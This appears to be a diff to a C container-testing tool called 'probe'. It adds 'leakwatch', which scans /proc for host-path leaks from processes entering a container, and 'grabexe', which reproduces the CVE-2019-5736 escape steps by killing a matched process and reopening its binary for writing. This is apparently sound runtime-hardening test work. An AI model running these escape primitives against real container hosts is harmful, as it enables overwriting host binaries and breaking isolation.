@@ -2,6 +2,11 @@
  * really allows there, instead of trusting the image's own tools.
  *   probe caps | seccomp | nnp | id | umask | fds | rlimit NAME | syscall NAME...
  *   probe memhog MB | spin [SECONDS]
+ *   probe leakwatch SECONDS PREFIX...: what an attacker in the container sees of processes that
+ *     enter it (tinyrun/tinydocker exec): their cwd, root and fds; prints each link that starts
+ *     with one of the host PREFIXes (CVE-2016-9962, CVE-2024-21626)
+ *   probe grabexe SECONDS INODE...: CVE-2019-5736 from inside: stop any process whose exe has
+ *     one of the INODEs, hold its exe by O_PATH, kill it, reopen the exe for writing
  * Output is one "key value" line per item; exit 0 unless the probe itself could not run. */
 #ifndef _GNU_SOURCE
 #define _GNU_SOURCE
@@ -12,6 +17,7 @@
 #include <grp.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -216,6 +222,115 @@ static int cmd_spin(long secs)
   }
 }
 
+static double now_s(void)
+{
+  struct timespec t;
+  clock_gettime(CLOCK_MONOTONIC, &t);
+  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+static void leak_check(const char *what, const char *path, int nprefix, char **prefix)
+{
+  char buf[4096];
+  ssize_t n = readlink(path, buf, sizeof(buf) - 1);
+  if (n <= 0)
+    return;
+  buf[n] = 0;
+  for (int i = 0; i < nprefix; i++)
+    if (strncmp(buf, prefix[i], strlen(prefix[i])) == 0)
+      printf("leak %s %s -> %s\n", what, path, buf);
+}
+
+static int cmd_leakwatch(double secs, int nprefix, char **prefix)
+{
+  pid_t self = getpid();
+  long seen = 0;
+  double end = now_s() + secs;
+  char path[128];
+  while (now_s() < end) {
+    DIR *d = opendir("/proc");
+    if (!d)
+      return perror("probe: /proc"), 2;
+    struct dirent *e;
+    while ((e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 1 || pid == self)
+        continue;
+      seen++;
+      snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
+      leak_check("cwd", path, nprefix, prefix);
+      snprintf(path, sizeof(path), "/proc/%d/root", pid);
+      leak_check("root", path, nprefix, prefix);
+      snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+      DIR *fd = opendir(path);
+      if (!fd)
+        continue;
+      struct dirent *f;
+      while ((f = readdir(fd))) {
+        if (f->d_name[0] == '.')
+          continue;
+        char fp[300];
+        snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", pid, f->d_name);
+        leak_check("fd", fp, nprefix, prefix);
+      }
+      closedir(fd);
+    }
+    closedir(d);
+  }
+  printf("leakwatch done, %ld looks\n", seen);
+  return 0;
+}
+
+static int cmd_grabexe(double secs, int nino, char **inos)
+{
+  pid_t self = getpid();
+  int caught = 0;
+  double end = now_s() + secs;
+  char path[64];
+  while (now_s() < end && caught < 5) {
+    DIR *d = opendir("/proc");
+    if (!d)
+      return perror("probe: /proc"), 2;
+    struct dirent *e;
+    while ((e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 1 || pid == self)
+        continue;
+      snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+      int fd = open(path, O_PATH | O_CLOEXEC);
+      struct stat st;
+      if (fd < 0 || fstat(fd, &st) < 0) {
+        if (fd >= 0)
+          close(fd);
+        continue;
+      }
+      bool hit = false;
+      for (int i = 0; i < nino; i++)
+        hit = hit || (unsigned long long)st.st_ino == strtoull(inos[i], NULL, 10);
+      if (!hit) {
+        close(fd);
+        continue;
+      }
+      /* the attacker's moves: hold it, let the process go, then reopen for writing */
+      kill(pid, SIGKILL);
+      for (int i = 0; i < 200 && kill(pid, 0) == 0; i++)
+        usleep(5000);
+      char fp[64];
+      snprintf(fp, sizeof(fp), "/proc/self/fd/%d", fd);
+      int w = open(fp, O_WRONLY | O_CLOEXEC);
+      printf("caught ino %llu: %s\n", (unsigned long long)st.st_ino,
+             w >= 0 ? "writable" : strerrorname_np(errno));
+      if (w >= 0)
+        close(w);
+      close(fd);
+      caught++;
+    }
+    closedir(d);
+  }
+  printf("grabexe done, caught %d\n", caught);
+  return 0;
+}
+
 int main(int argc, char **argv)
 {
   static const char *const caps[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL};
@@ -246,7 +361,11 @@ int main(int argc, char **argv)
     return cmd_memhog(atol(argv[2]));
   if (!strcmp(c, "spin"))
     return cmd_spin(argc > 2 ? atol(argv[2]) : 0);
+  if (!strcmp(c, "leakwatch") && argc > 3)
+    return cmd_leakwatch(atof(argv[2]), argc - 3, argv + 3);
+  if (!strcmp(c, "grabexe") && argc > 3)
+    return cmd_grabexe(atof(argv[2]), argc - 3, argv + 3);
   fprintf(stderr, "usage: probe caps|seccomp|nnp|id|umask|fds|rlimit NAME|syscall NAME...|"
-                  "memhog MB|spin [SECONDS]\n");
+                  "memhog MB|spin [SECONDS]|leakwatch S PREFIX...|grabexe S INODE...\n");
   return 2;
 }
